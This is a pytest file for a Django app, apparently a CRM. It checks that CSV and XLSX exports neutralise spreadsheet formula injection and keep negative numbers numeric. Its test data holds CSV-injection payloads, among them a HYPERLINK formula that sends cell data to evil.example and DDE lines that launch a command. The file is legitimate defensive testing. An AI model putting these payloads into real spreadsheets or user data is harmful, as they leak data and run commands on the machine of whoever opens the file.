"""Every CSV/XLSX we write neutralises formulas (OWASP CSV injection); numbers stay numbers."""

import csv
import io
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.urls import reverse

from apps.activities.services import activity_log
from apps.core.spreadsheets import neutralise_formula, safe_cell, safe_row
from apps.imports.models import ImportRowError
from apps.scoring.models import ScoreSnapshot
from apps.trust.export import to_csv_zip
from apps.usage.services import refresh_marks_drain
from tests import factories
from tests.conftest import World
from tests.imports.factories import csv_upload, imported_job

ATTACKS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "=1+1"]


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_a_spreadsheet_would_run_is_prefixed_with_a_quote(attack: str) -> None:
    assert neutralise_formula(attack) == "'" + attack


@pytest.mark.parametrize("text", ["-12.5", "+45", "-3", "-0,75", "1e5", "-2E-3", "Aarhus", "", "'=already", " =1"])
def test_plain_numbers_and_ordinary_text_are_left_alone(text: str) -> None:
    assert neutralise_formula(text) == text


def test_numeric_cells_stay_numeric() -> None:
    assert safe_row([-5, -2.5, Decimal("-12.50"), None, True, "-1+1"]) == [-5, -2.5, Decimal("-12.50"), None, True,
                                                                         "'-1+1"]
    assert safe_cell(-7) == -7


def test_an_xlsx_written_through_safe_row_holds_text_and_numbers_never_formulas() -> None:
    from openpyxl import Workbook, load_workbook

    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(safe_row(["=HYPERLINK(\"http://evil.example\")", -12.5, "@SUM(A1)"]))
    buffer = io.BytesIO()
    workbook.save(buffer)
    read = load_workbook(io.BytesIO(buffer.getvalue())).active
    assert read is not None
    cells = next(read.iter_rows())
    assert [c.data_type for c in cells] == ["s", "n", "s"]
    assert cells[0].value == "'=HYPERLINK(\"http://evil.example\")"
    assert cells[1].value == -12.5
    # Without it openpyxl would have stored a live formula:
    unsafe = Workbook().active
    assert unsafe is not None
    unsafe.append(["=HYPERLINK(\"http://evil.example\")"])
    assert unsafe["A1"].data_type == "f"


def _rows(text: str, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=delimiter))


def test_the_csv_zip_writer_neutralises_every_table() -> None:
    tables: Any = {"t": (["=header", "n"], [{"=header": "+cmd|' /C calc'!A0", "n": -3}])}
    archive = zipfile.ZipFile(io.BytesIO(to_csv_zip(tables)))
    assert _rows(archive.read("t.csv").decode("utf-8")) == [["'=header", "n"], ["'+cmd|' /C calc'!A0", "-3"]]


@pytest.mark.django_db
def test_my_data_export_neutralises_notes_and_account_names_and_keeps_negative_figures(world: World) -> None:
    account = factories.AccountFactory(organisation=world.org, name="+cmd|' /C calc'!A0")
    activity_log(owner_id=world.rita.pk, type="call", account=account, summary="=HYPERLINK(\"http://evil.example\")")
    factories.DealFactory(account=account, owner=world.rita, stage=world.stages[0], name="@SUM(1+1)")
    refresh_marks_drain()  # what a worker does after commit: rita gets her snapshots
    snapshot = ScoreSnapshot.objects.filter(user=world.rita).order_by("-period_start").first()
    assert snapshot is not None
    assert snapshot.net_minutes < 0  # a call logged, nothing got back yet

    response = world.client_for(world.rita).get(reverse("trust:my_data_csv"))
    archive = zipfile.ZipFile(io.BytesIO(response.content))
    activities = list(csv.DictReader(io.StringIO(archive.read("activities.csv").decode("utf-8-sig"))))
    assert [(a["summary"], a["account__name"]) for a in activities] == [
        ("'=HYPERLINK(\"http://evil.example\")", "'+cmd|' /C calc'!A0")]
    deals = list(csv.DictReader(io.StringIO(archive.read("deals.csv").decode("utf-8-sig"))))
    assert [d["name"] for d in deals] == ["'@SUM(1+1)"]
    snapshots = list(csv.DictReader(io.StringIO(archive.read("score_snapshots.csv").decode("utf-8-sig"))))
    assert str(snapshot.net_minutes) in [s["net_minutes"] for s in snapshots]  # e.g. "-2.00", no quote


@pytest.mark.django_db
def test_invalid_rows_csv_neutralises_the_persons_own_cells(world: World, django_capture_on_commit_callbacks: Any) -> None:
    rows = [["Dato", "Type", "Kunde", "Note"], ["32-10-2023", "call", "=HYPERLINK(\"http://evil.example\")", "-5"],
            ["33-10-2023", "call", "Acme", "@SUM(1+1)"]]
    job = imported_job(world.rita, csv_upload(rows), django_capture_on_commit_callbacks)
    assert ImportRowError.objects.filter(job=job).count() == 2
    response = world.client_for(world.rita).get(reverse("imports:invalid_rows", kwargs={"job_id": job.pk}))
    lines = _rows(b"".join(response.streaming_content).decode("utf-8"), delimiter=";")  # type: ignore[attr-defined]
    assert lines[1][:4] == ["32-10-2023", "call", "'=HYPERLINK(\"http://evil.example\")", "-5"]
    assert lines[2][3] == "'@SUM(1+1)"
